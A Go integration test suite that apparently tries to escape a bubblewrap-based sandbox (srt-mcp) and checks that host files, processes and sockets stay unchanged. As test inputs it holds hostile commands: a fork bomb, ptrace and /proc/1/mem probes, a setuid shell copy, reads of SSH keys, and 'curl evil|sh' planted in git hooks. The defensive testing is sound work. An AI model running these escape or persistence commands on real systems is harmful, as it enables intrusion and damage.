package integration

// The escape suite: each test tries a way out of the sandbox through the
// real srt-mcp binary and asserts that the host is unchanged — files,
// processes, sockets — not merely that the command failed. It runs as root
// and as nobody (make test).
//
// Host assumptions: bwrap 0.8+, /usr/bin/python3, coreutils, bash.

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"
)

// sh runs a bash script in the sandbox with --json and the given flags.
func sh(t *testing.T, cwd string, flags []string, script string) nwResult {
	t.Helper()
	return nwRun(t, cwd, flags, "/bin/bash", "-c", script)
}

// hostTree records every path under dir with its size and mtime.
func hostTree(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	_ = filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err == nil {
			out[p] = fmt.Sprintf("%v %d %d", fi.Mode(), fi.Size(), fi.ModTime().UnixNano())
		}
		return nil
	})
	return out
}

func sameTree(t *testing.T, what string, before, after map[string]string) {
	t.Helper()
	for p, v := range after {
		if before[p] != v {
			t.Errorf("%s: %s changed or appeared (%q -> %q)", what, p, before[p], v)
		}
	}
	for p := range before {
		if _, ok := after[p]; !ok {
			t.Errorf("%s: %s disappeared", what, p)
		}
	}
}

func write(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestEscapeWritesOutsideAllowedPaths(t *testing.T) {
	root := sbDir(t)
	cwd, sibling := filepath.Join(root, "proj"), filepath.Join(root, "other")
	write(t, filepath.Join(cwd, "keep.txt"), "original")
	write(t, filepath.Join(sibling, "s.txt"), "sibling")
	handOver(t, root)
	before := hostTree(t, root)
	r := sh(t, cwd, nil, `
		for p in ./new.txt ./keep.txt ../other/s.txt ../other/x /usr/pwn /etc/pwn /pwn; do
			(echo pwned > "$p") 2>/dev/null && echo "WROTE $p"
		done; true`)
	if strings.Contains(r.stdout, "WROTE") {
		t.Fatalf("writes succeeded: %q", r.stdout)
	}
	sameTree(t, "read-only run", before, hostTree(t, root))

	r = sh(t, cwd, []string{"--allow-write", "."}, `echo made > new.txt && echo changed > keep.txt && (echo x > ../other/s.txt) 2>/dev/null; true`)
	if b, _ := os.ReadFile(filepath.Join(cwd, "new.txt")); string(b) != "made\n" {
		t.Fatalf("--allow-write . did not let the write land: %q %q", b, r.stderr)
	}
	if b, _ := os.ReadFile(filepath.Join(sibling, "s.txt")); string(b) != "sibling" {
		t.Fatal("the sibling directory was written")
	}
}

func TestEscapeSymlinksAndHardLinks(t *testing.T) {
	root := sbDir(t)
	// outside.txt is visible read-only (--allow-read ro): a write through a
	// link to it must fail, not land on the host.
	cwd, outside := filepath.Join(root, "w"), filepath.Join(root, "ro", "outside.txt")
	write(t, outside, "outside")
	write(t, filepath.Join(cwd, "locked.txt"), "locked")
	if err := os.Symlink(outside, filepath.Join(cwd, "link")); err != nil {
		t.Fatal(err)
	}
	handOver(t, root)
	before := hostTree(t, root)
	r := sh(t, cwd, []string{"--allow-write", ".", "--deny-write", "locked.txt", "--allow-read", filepath.Dir(outside)}, `
		(echo pwned > link) 2>/dev/null && echo "WROTE link"
		ln -s /etc/passwd l2 && (echo pwned >> l2) 2>/dev/null && echo "WROTE l2"
		(ln `+outside+` hard) 2>/dev/null && echo "LINKED outside"
		(ln locked.txt hard2 && echo pwned >> hard2) 2>/dev/null && echo "LINKED locked"
		(echo pwned > locked.txt) 2>/dev/null && echo "WROTE locked"
		(mv locked.txt moved.txt) 2>/dev/null && echo "MOVED locked"
		true`)
	for _, bad := range []string{"WROTE link", "WROTE l2", "LINKED outside", "LINKED locked", "WROTE locked", "MOVED locked"} {
		if strings.Contains(r.stdout, bad) {
			t.Errorf("%s: %q", bad, r.stdout)
		}
	}
	if b, _ := os.ReadFile(outside); string(b) != "outside" {
		t.Fatalf("the file outside was changed: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(cwd, "locked.txt")); string(b) != "locked" {
		t.Fatalf("the deny_write file was changed: %q", b)
	}
	after := hostTree(t, root)
	delete(after, filepath.Join(cwd, "l2")) // the sandbox may create a link in its writable dir
	delete(after, cwd)
	delete(before, cwd)
	sameTree(t, "links", before, after)
}

func TestEscapeDeniedReads(t *testing.T) {
	root := sbDir(t)
	cwd := filepath.Join(root, "proj")
	write(t, filepath.Join(cwd, "secret.env"), "SECRET-ENV-VALUE")
	write(t, filepath.Join(cwd, "vault", "key.pem"), "SECRET-PEM")
	write(t, filepath.Join(cwd, "vault", "public", "ok.txt"), "public-ok")
	write(t, filepath.Join(cwd, ".ssh", "id_rsa"), "SECRET-SSH-KEY") // cwd is HOME in these runs: ~/.ssh is hidden by default
	r := sh(t, cwd, []string{"--deny-read", "secret.env", "--deny-read", "vault", "--allow-read", "vault/public"}, `
		cat secret.env; ls -A vault; cat vault/key.pem; cat vault/public/ok.txt; cat ~/.ssh/id_rsa; ls -A ~/.ssh; grep -r SECRET . 2>/dev/null; true`)
	if strings.Contains(r.stdout, "SECRET") {
		t.Fatalf("a denied file was read: %q", r.stdout)
	}
	if !strings.Contains(r.stdout, "public-ok") {
		t.Fatalf("allow_read inside a denied directory did not re-open it: %q %q", r.stdout, r.stderr)
	}
	if !strings.Contains(r.stderr, "secret.env: Permission denied") {
		t.Fatalf("a denied file should be unreadable, got %q", r.stderr)
	}
}

func TestEscapeProcTricks(t *testing.T) {
	for _, init := range []string{"", "srt"} {
		t.Run("init="+init, func(t *testing.T) {
			var flags []string
			if init != "" {
				flags = []string{"--init", init}
			}
			r := nwRun(t, sbDir(t), flags, "/usr/bin/python3", "-c", `
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
print("ptrace_attach", libc.ptrace(16, 1, 0, 0), ctypes.get_errno())
for path, mode in (("/proc/1/mem", os.O_RDWR), ("/proc/1/mem", os.O_RDONLY), ("/proc/1/environ", os.O_RDONLY)):
    try:
        fd = os.open(path, mode); data = os.read(fd, 4096); print("OPENED", path, len(data))
    except OSError as e:
        print("denied", path, e.errno)
pids = [p for p in os.listdir("/proc") if p.isdigit()]
print("pids", len(pids), " ".join(pids))
print("self", os.getpid())
`)
			out := r.stdout
			if !strings.Contains(out, "ptrace_attach -1") {
				t.Errorf("ptrace of pid 1 did not fail: %q", out)
			}
			if strings.Contains(out, "OPENED /proc/1/mem") {
				t.Errorf("/proc/1/mem was opened: %q", out)
			}
			if strings.Contains(out, "OPENED /proc/1/environ") && !strings.Contains(out, "OPENED /proc/1/environ 0") {
				t.Errorf("pid 1's environment is readable and not empty: %q", out)
			}
			if strings.Contains(out, " "+strconv.Itoa(os.Getpid())+" ") {
				t.Errorf("a host pid is visible: %q", out)
			}
			var n int
			fmt.Sscanf(out[strings.Index(out, "pids ")+5:], "%d", &n)
			if n == 0 || n > 4 {
				t.Errorf("the sandbox should see only its own few processes: %q", out)
			}
		})
	}
}

func TestEscapeHostUnixSockets(t *testing.T) {
	dir := sbDir(t)
	path := filepath.Join(dir, "host.sock")
	l, err := net.Listen("unix", path)
	if err != nil {
		t.Fatal(err)
	}
	defer l.Close()
	abstract := fmt.Sprintf("@srt-mcp-test-%d", time.Now().UnixNano())
	la, err := net.Listen("unix", abstract)
	if err != nil {
		t.Fatal(err)
	}
	defer la.Close()
	got := make(chan string, 2)
	for _, ln := range []net.Listener{l, la} {
		go func(ln net.Listener) {
			if c, err := ln.Accept(); err == nil {
				got <- "connection"
				c.Close()
			}
		}(ln)
	}
	r := nwRun(t, dir, []string{"--allow-read", dir}, "/usr/bin/python3", "-c", `
import socket
for addr in ("`+path+`", "\0`+abstract[1:]+`"):
    try:
        s = socket.socket(socket.AF_UNIX); s.connect(addr); print("CONNECTED", repr(addr))
    except OSError as e:
        print("refused", e.errno)
`)
	if strings.Contains(r.stdout, "CONNECTED") || !strings.Contains(r.stdout, "refused 1") {
		t.Fatalf("unix socket: %q %q", r.stdout, r.stderr)
	}
	select {
	case <-got:
		t.Fatal("a host unix socket accepted a connection from the sandbox")
	case <-time.After(200 * time.Millisecond):
	}
}

func TestEscapeNamespacesMountSetuid(t *testing.T) {
	r := sh(t, sbDir(t), nil, `
		unshare -U true 2>/dev/null && echo "UNSHARE user"
		unshare -m true 2>/dev/null && echo "UNSHARE mount"
		/usr/bin/python3 -c 'import os; os.unshare(0x10000000)' 2>/dev/null && echo "PY unshare"
		mkdir -p /tmp/m && mount -t tmpfs none /tmp/m 2>/dev/null && echo "MOUNTED"
		bwrap --ro-bind / / true 2>/dev/null && echo "NESTED bwrap"
		cp /bin/bash /tmp/b && chmod u+s /tmp/b 2>/dev/null; /tmp/b -p -c 'id -u' > /tmp/uid; echo "uid $(id -u) suid-uid $(cat /tmp/uid)"
		grep -E 'NoNewPrivs|CapEff|CapBnd|Seccomp:' /proc/self/status`)
	for _, bad := range []string{"UNSHARE", "PY unshare", "MOUNTED", "NESTED"} {
		if strings.Contains(r.stdout, bad) {
			t.Errorf("%s succeeded: %q", bad, r.stdout)
		}
	}
	for _, want := range []string{"NoNewPrivs:\t1", "CapEff:\t0000000000000000", "CapBnd:\t0000000000000000", "Seccomp:\t2"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("missing %q in %q", want, r.stdout)
		}
	}
	var u, su string
	if i := strings.Index(r.stdout, "uid "); i >= 0 {
		fmt.Sscanf(r.stdout[i:], "uid %s suid-uid %s", &u, &su)
	}
	if u == "" || u != su {
		t.Errorf("a setuid copy changed the uid: %q", r.stdout)
	}
}

func TestEscapeEnvAndFDLeaks(t *testing.T) {
	secret := fmt.Sprintf("hunter2-%d", time.Now().UnixNano())
	secretFile := filepath.Join(t.TempDir(), "fd-secret")
	write(t, secretFile, secret)
	f, err := os.Open(secretFile)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	cwd := sbDir(t)
	cmd := exec.Command(nwBin(t), "exec", "--cwd", cwd, "--", "/bin/bash", "-c",
		`env; cat /proc/self/environ | tr '\0' '\n'; cat /proc/1/environ 2>/dev/null | tr '\0' '\n'; for p in /proc/[0-9]*; do cat $p/environ 2>/dev/null | tr '\0' '\n'; done; ls /proc/self/fd`)
	cmd.Env = append(os.Environ(), "SRT_TEST_SECRET="+secret, "AWS_SECRET_ACCESS_KEY="+secret, "HOME="+cwd)
	cmd.ExtraFiles = []*os.File{f} // fd 3 of srt-mcp: must not reach the sandbox
	out, _ := cmd.CombinedOutput()
	if bytes.Contains(out, []byte(secret)) || bytes.Contains(out, []byte("SRT_TEST_SECRET")) {
		t.Fatalf("a secret leaked into the sandbox:\n%s", out)
	}
	fds := map[string]bool{}
	for _, line := range strings.Split(string(out), "\n") {
		if _, err := strconv.Atoi(line); err == nil {
			fds[line] = true
		}
	}
	for fd := range fds {
		if n, _ := strconv.Atoi(fd); n > 3 {
			t.Fatalf("fd %s is open in the sandbox (only 0-2, and 3 for ls itself): %v", fd, fds)
		}
	}
}

func processesWith(marker string) []string {
	var out []string
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		b, err := os.ReadFile("/proc/" + e.Name() + "/cmdline")
		if err == nil && bytes.Contains(b, []byte(marker)) && !bytes.Contains(b, []byte("bash\x00-c")) && !bytes.Contains(b, []byte("srt-mcp")) {
			out = append(out, e.Name()+":"+strings.ReplaceAll(string(b), "\x00", " "))
		}
	}
	return out
}

func waitNoProcesses(t *testing.T, marker string, within time.Duration) {
	t.Helper()
	deadline := time.Now().Add(within)
	for {
		left := processesWith(marker)
		if len(left) == 0 {
			return
		}
		if time.Now().After(deadline) {
			t.Fatalf("processes survived: %v", left)
		}
		time.Sleep(20 * time.Millisecond)
	}
}

func TestEscapeBackgroundProcessesDie(t *testing.T) {
	m := fmt.Sprintf("%d", time.Now().UnixNano()%1000000+100000)
	r := sh(t, sbDir(t), nil, `sleep 300.`+m+`1 & setsid sleep 300.`+m+`2 & nohup sleep 300.`+m+`3 >/dev/null 2>&1 & (trap '' HUP TERM; exec sleep 300.`+m+`4) & echo started`)
	if !strings.Contains(r.stdout, "started") {
		t.Fatalf("%q %q", r.stdout, r.stderr)
	}
	waitNoProcesses(t, "300."+m, 2*time.Second)
}

func TestEscapeKill9OfSrtMcp(t *testing.T) {
	m := fmt.Sprintf("%d", time.Now().UnixNano()%1000000+100000)
	cmd := exec.Command(nwBin(t), "exec", "--cwd", sbDir(t), "--", "/bin/bash", "-c", `sleep 300.`+m+`1 & setsid sleep 300.`+m+`2 & sleep 300.`+m+`3`)
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(10 * time.Second)
	for len(processesWith("300."+m)) < 3 {
		if time.Now().After(deadline) {
			t.Fatalf("the sandboxed sleeps never started: %v", processesWith("300."+m))
		}
		time.Sleep(20 * time.Millisecond)
	}
	_ = cmd.Process.Signal(syscall.SIGKILL)
	_ = cmd.Wait()
	waitNoProcesses(t, "300."+m, 3*time.Second)
}

func countProcesses() int {
	ents, _ := os.ReadDir("/proc")
	n := 0
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err == nil {
			n++
		}
	}
	return n
}

func TestEscapeForkBomb(t *testing.T) {
	base := countProcesses()
	start := time.Now()
	r := sh(t, sbDir(t), []string{"--max-procs", "64", "--timeout", "5s"}, `bomb() { bomb | bomb & }; bomb; sleep 3; echo survived`)
	if time.Since(start) > 20*time.Second {
		t.Fatalf("the fork bomb run took %s", time.Since(start))
	}
	_ = r
	deadline := time.Now().Add(5 * time.Second)
	for countProcesses() > base+20 {
		if time.Now().After(deadline) {
			t.Fatalf("host process count stayed high: %d (was %d)", countProcesses(), base)
		}
		time.Sleep(50 * time.Millisecond)
	}
	if r2 := sh(t, sbDir(t), nil, `echo after`); r2.stdout != "after\n" {
		t.Fatalf("the next run failed: %q %q", r2.stdout, r2.stderr)
	}
}

func TestEscapeMemoryBomb(t *testing.T) {
	r := nwRun(t, sbDir(t), []string{"--max-memory", "256M"}, "/usr/bin/python3", "-c", `
try:
    x = bytearray(2 << 30); print("ALLOCATED")
except MemoryError:
    print("MemoryError")
import mmap
try:
    m = mmap.mmap(-1, 2 << 30); m[-1] = 1; print("MAPPED")
except (OSError, MemoryError) as e:
    print("mmap refused")
`)
	// Without root the limit is RLIMIT_AS: the allocation fails. As root
	// the sandbox's cgroup bounds its memory (no address-space limit,
	// which WebAssembly runtimes cannot live with): the kernel kills the
	// process that went over it.
	killed := os.Geteuid() == 0 && r.code == 128+9
	if strings.Contains(r.stdout, "ALLOCATED") || strings.Contains(r.stdout, "MAPPED") || !(strings.Contains(r.stdout, "MemoryError") || killed) {
		t.Fatalf("memory bomb: code %d %q %q", r.code, r.stdout, r.stderr)
	}
}

// TestSmallMemoryLimitStarts: the exec stage sets the command's address-
// space limit after everything of its own that allocates; before, its Go
// heap sometimes had to grow under the limit and it died ("fatal error:
// runtime: out of memory", 6 runs in 80 with 40M, TestEscapeMemoryBomb's
// 256M now and then).
func TestSmallMemoryLimitStarts(t *testing.T) {
	dir := sbDir(t)
	for i := 0; i < 40; i++ {
		if r := nwRun(t, dir, []string{"--max-memory", "40M"}, "/bin/true"); r.code != 0 {
			t.Fatalf("run %d under a 40M limit: exit %d, stderr %.300q", i, r.code, r.stderr)
		}
	}
}

func TestEscapeOutputFlood(t *testing.T) {
	cmd := exec.Command(nwBin(t), "exec", "--json", "--max-output", "1M", "--cwd", sbDir(t), "--", "head", "-c", "1G", "/dev/zero")
	var out bytes.Buffer
	cmd.Stdout = &out
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	maxRSS := 0
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	for running := true; running; {
		select {
		case <-done:
			running = false
		case <-time.After(20 * time.Millisecond):
			if b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", cmd.Process.Pid)); err == nil {
				for _, line := range strings.Split(string(b), "\n") {
					var kb int
					if n, _ := fmt.Sscanf(line, "VmRSS: %d kB", &kb); n == 1 && kb > maxRSS {
						maxRSS = kb
					}
				}
			}
		}
	}
	if maxRSS > 100<<10 {
		t.Fatalf("srt-mcp grew to %d kB while 1 GB was printed", maxRSS)
	}
	delivered := 0
	for _, line := range strings.Split(strings.TrimSpace(out.String()), "\n") {
		var e struct {
			Type      string   `json:"type"`
			Data      string   `json:"data"`
			Truncated []string `json:"truncated"`
		}
		if err := json.Unmarshal([]byte(line), &e); err != nil {
			t.Fatalf("bad event %q", line[:min(len(line), 200)])
		}
		delivered += len(e.Data)
		if e.Type == "exit" && (len(e.Truncated) != 1 || e.Truncated[0] != "stdout") {
			t.Fatalf("exit event without the truncated flag: %q", line)
		}
	}
	if delivered != 1<<20 {
		t.Fatalf("flood: want exactly 1 MiB delivered, got %d bytes", delivered)
	}
}

func TestTimeoutAndSignals(t *testing.T) {
	bin := nwBin(t)
	run := func(args ...string) (int, time.Duration) {
		start := time.Now()
		err := exec.Command(bin, append([]string{"exec", "--cwd", sbDir(t), "--"}, args...)...).Run()
		code := 0
		if ee, ok := err.(*exec.ExitError); ok {
			code = ee.ExitCode()
		}
		return code, time.Since(start)
	}
	c := exec.Command(bin, "exec", "--timeout", "1s", "--cwd", sbDir(t), "--", "bash", "-c", "trap '' TERM; sleep 30")
	start := time.Now()
	err := c.Run()
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 124 || time.Since(start) > 6*time.Second {
		t.Fatalf("timeout: want exit 124 within the grace, got %v after %s", err, time.Since(start))
	}
	if code, _ := run("bash", "-c", "kill -9 $$"); code != 137 {
		t.Fatalf("SIGKILL inside: want 137, got %d", code)
	}
	c = exec.Command(bin, "exec", "--cwd", sbDir(t), "--", "sleep", "30")
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	time.Sleep(500 * time.Millisecond)
	_ = c.Process.Signal(os.Interrupt)
	err = c.Wait()
	if ee, ok := err.(*exec.ExitError); !ok || ee.ExitCode() != 130 {
		t.Fatalf("SIGINT: want 130, got %v", err)
	}
}

func TestBadInput(t *testing.T) {
	bin := nwBin(t)
	dir := sbDir(t)
	settings := func(body string) string {
		p := filepath.Join(dir, fmt.Sprintf("s%d.json", time.Now().UnixNano()))
		write(t, p, body)
		return p
	}
	for _, tc := range []struct {
		name string
		args []string
		code int
		want []string
	}{
		{"malformed settings", []string{"--settings", settings("{\n  \"network\": {,\n}")}, 2, []string{"line 2", "column"}},
		{"unknown key", []string{"--settings", settings(`{"network":{"allowedDomain":[]}}`)}, 2, []string{"network.allowedDomain", "unknown key"}},
		{"unsupported srt feature", []string{"--settings", settings(`{"enableWeakerNestedSandbox": true}`)}, 2, []string{"enableWeakerNestedSandbox"}},
		{"wrong type", []string{"--settings", settings(`{"filesystem":{"denyRead":"~/.ssh"}}`)}, 2, []string{"filesystem.denyRead"}},
		{"missing settings file", []string{"--settings", filepath.Join(dir, "nope.json")}, 2, []string{"nope.json"}},
		{"non-existent allow_write", []string{"--allow-write", filepath.Join(dir, "no-such-dir")}, 125, []string{"filesystem.allow_write[0]", "no-such-dir", "does not exist"}},
		{"relative non-existent path", []string{"--allow-read", "missing/sub"}, 125, []string{"filesystem.allow_read[0]", "missing/sub"}},
		{"non-existent cwd", []string{"--cwd", filepath.Join(dir, "gone")}, 2, []string{"--cwd", "gone"}},
		{"star in allow list", []string{"--allow-domain", "*"}, 2, []string{"allowed_domains[0]"}},
		{"URL as a domain", []string{"--allow-domain", "https://example.com/x"}, 2, []string{"allowed_domains[0]", "not a URL"}},
		{"bad env", []string{"--env", "NOVALUE"}, 2, []string{"--env", "NAME=VALUE"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			args := append([]string{"exec"}, tc.args...)
			if !contains(tc.args, "--cwd") {
				args = append(args, "--cwd", dir)
			}
			out, err := exec.Command(bin, append(args, "--", "true")...).CombinedOutput()
			ee, ok := err.(*exec.ExitError)
			if !ok || ee.ExitCode() != tc.code {
				t.Fatalf("want exit %d, got %v: %s", tc.code, err, out)
			}
			for _, w := range tc.want {
				if !strings.Contains(string(out), w) {
					t.Fatalf("message should mention %q: %s", w, out)
				}
			}
		})
	}
}

func contains(ss []string, s string) bool {
	for _, x := range ss {
		if x == s {
			return true
		}
	}
	return false
}

func TestSrtSettingsCompatibility(t *testing.T) {
	root := sbDir(t)
	cwd := filepath.Join(root, "proj")
	write(t, filepath.Join(cwd, "secret.txt"), "do-not-change")
	write(t, filepath.Join(cwd, ".ssh", "id_rsa"), "PRIVATE-KEY")
	s := filepath.Join(root, "srt.json")
	write(t, s, `{"network":{"allowedDomains":[],"deniedDomains":[]},
		"filesystem":{"denyRead":["~/.ssh"],"allowWrite":["."],"denyWrite":["secret.txt"]}}`)
	handOver(t, cwd)
	r := sh(t, cwd, []string{"--settings", s}, `echo made > new.txt; (echo x > secret.txt) 2>/dev/null && echo "WROTE secret"; cat ~/.ssh/id_rsa 2>/dev/null; true`)
	if b, _ := os.ReadFile(filepath.Join(cwd, "new.txt")); string(b) != "made\n" {
		t.Fatalf("allowWrite . did not apply: %q", r.stderr)
	}
	if strings.Contains(r.stdout, "WROTE") || strings.Contains(r.stdout, "PRIVATE-KEY") {
		t.Fatalf("srt settings not enforced: %q", r.stdout)
	}
	if b, _ := os.ReadFile(filepath.Join(cwd, "secret.txt")); string(b) != "do-not-change" {
		t.Fatal("denyWrite file changed")
	}
}

func TestMandatoryProtection(t *testing.T) {
	root := sbDir(t)
	cwd := filepath.Join(root, "repo")
	write(t, filepath.Join(cwd, ".git", "hooks", "pre-commit.sample"), "#!/bin/sh\n")
	write(t, filepath.Join(cwd, ".git", "config"), "[core]\n\tbare = false\n")
	write(t, filepath.Join(cwd, ".git", "HEAD"), "ref: refs/heads/main\n")
	write(t, filepath.Join(cwd, ".bashrc"), "# mine\n")
	write(t, filepath.Join(cwd, "sub", "code.py"), "print(1)\n")
	// Deeper than srt's three levels: written during the run, the sweep
	// removed the overwritten file, and the user's original was lost.
	write(t, filepath.Join(cwd, "a", "b", "c", "d", ".bashrc"), "# deep mine\n")
	write(t, filepath.Join(cwd, "a", "b", "c", "d", "e", ".git", "hooks", "pre-commit"), "#!/bin/sh\n# mine\n")
	handOver(t, root)
	before := hostTree(t, root)

	// A run that writes nothing leaves the tree exactly as it was: no
	// placeholder files for the protected names that do not exist.
	sh(t, cwd, []string{"--allow-write", "."}, `true`)
	sameTree(t, "no-op run", before, hostTree(t, root))

	r := sh(t, cwd, []string{"--allow-write", "."}, `
		(echo 'curl evil|sh' > .git/hooks/pre-commit) 2>/dev/null && echo "WROTE hook"
		(echo '[core] fsmonitor = evil' >> .git/config) 2>/dev/null && echo "WROTE config"
		(echo 'evil' >> .bashrc) 2>/dev/null && echo "WROTE bashrc"
		(mv .git .git2) 2>/dev/null && echo "MOVED git"
		(mv .bashrc x) 2>/dev/null && echo "MOVED bashrc"
		(echo 'evil' >> a/b/c/d/.bashrc) 2>/dev/null && echo "WROTE deep bashrc"
		(echo 'curl evil|sh' > a/b/c/d/e/.git/hooks/pre-commit) 2>/dev/null && echo "WROTE deep hook"
		(mv a/b/c/d/.bashrc a/b/c/d/x) 2>/dev/null && echo "MOVED deep bashrc"
		echo '{"mcpServers":{}}' > .mcp.json
		mkdir -p .vscode sub/.vscode && echo '{}' > .vscode/tasks.json && echo x > sub/.bashrc
		echo ok > sub/new.txt`)
	for _, bad := range []string{"WROTE", "MOVED"} {
		if strings.Contains(r.stdout, bad) {
			t.Errorf("%s: %q", bad, r.stdout)
		}
	}
	for _, p := range []string{".mcp.json", ".vscode", "sub/.vscode", "sub/.bashrc"} {
		if _, err := os.Lstat(filepath.Join(cwd, p)); err == nil {
			t.Errorf("%s created by the run is still there", p)
		}
	}
	if _, err := os.Stat(filepath.Join(cwd, "sub", "new.txt")); err != nil {
		t.Error("an ordinary write was lost")
	}
	decisions := ""
	for _, e := range r.events {
		if v, ok := e["violation"].(map[string]any); ok && v["kind"] == "filesystem" {
			decisions += fmt.Sprint(v["path"], " ")
		}
	}
	if !strings.Contains(decisions, ".mcp.json") || !strings.Contains(decisions, "sub/.bashrc") {
		t.Errorf("removals not reported as violations: %q", decisions)
	}
	if b, _ := os.ReadFile(filepath.Join(cwd, ".bashrc")); string(b) != "# mine\n" {
		t.Errorf(".bashrc changed: %q", b)
	}
	if b, err := os.ReadFile(filepath.Join(cwd, "a", "b", "c", "d", ".bashrc")); string(b) != "# deep mine\n" {
		t.Errorf("a .bashrc four levels down: %q %v (the user's file must stay as it was)", b, err)
	}
	if b, err := os.ReadFile(filepath.Join(cwd, "a", "b", "c", "d", "e", ".git", "hooks", "pre-commit")); string(b) != "#!/bin/sh\n# mine\n" {
		t.Errorf("a hook five levels down: %q %v (the user's file must stay as it was)", b, err)
	}
}
